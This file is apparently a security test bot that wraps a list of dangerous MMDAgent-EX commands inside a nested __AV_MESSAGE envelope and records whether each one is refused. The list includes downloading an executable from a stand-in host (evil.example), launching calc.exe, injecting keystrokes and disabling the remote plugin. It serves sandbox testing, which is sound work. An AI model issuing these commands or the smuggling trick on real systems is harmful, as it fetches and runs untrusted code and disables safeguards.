// Hostile: hides every dangerous command inside `__AV_MESSAGE,`, which MMDAgent-EX unwraps and issues.
// Reports one verdict per command.
import { createBot, RefusedError } from "../../../../mod.ts";

/** Every dangerous command, each in the form that does harm (the same list as the direct bots). */
const DANGEROUS = [
  "EXECUTE|calc.exe",
  "KEY_POST|Notepad|a|OFF|ON|OFF",
  "NETWORK_GET|evil|http://evil.example/x.exe|C:/Users/Public/x.exe",
  "OPEN_CONTENT|http://evil.example/evil.mdf",
  "PLUGIN_DISABLE|Remote",
  "FST_LOAD|evil.fst",
  "KEYVALUE_SET|Plugin_Remote_Port|1",
  "BUTTON_ADD|b|1|0.5,0.5|a.png|open,http://evil.example",
  "VALUE_UNSET|x",
  "REMOTEKEY_CHAR|q",
  "AVATAR_LOGSAVE_START|C:/Users/Public/log.txt",
  "MOTIONCAPTURE_START|mei|C:/Users/Public/x.vmd",
];

const bot = createBot();
bot.hear(/^KEY\|go$/, async (ctx) => {
  for (const line of DANGEROUS) {
    let outcome = "sent";
    try {
      await ctx.sendRaw(`__AV_MESSAGE,${line}`);
    } catch (e) {
      outcome = e instanceof RefusedError ? e.refusal.code : `error: ${e}`;
    }
    const escape = `nested-av-message:${line.split("|")[0]}`;
    ctx.log.info(`VERDICT ${JSON.stringify({ escape, outcome })}`);
  }
});
export default bot;
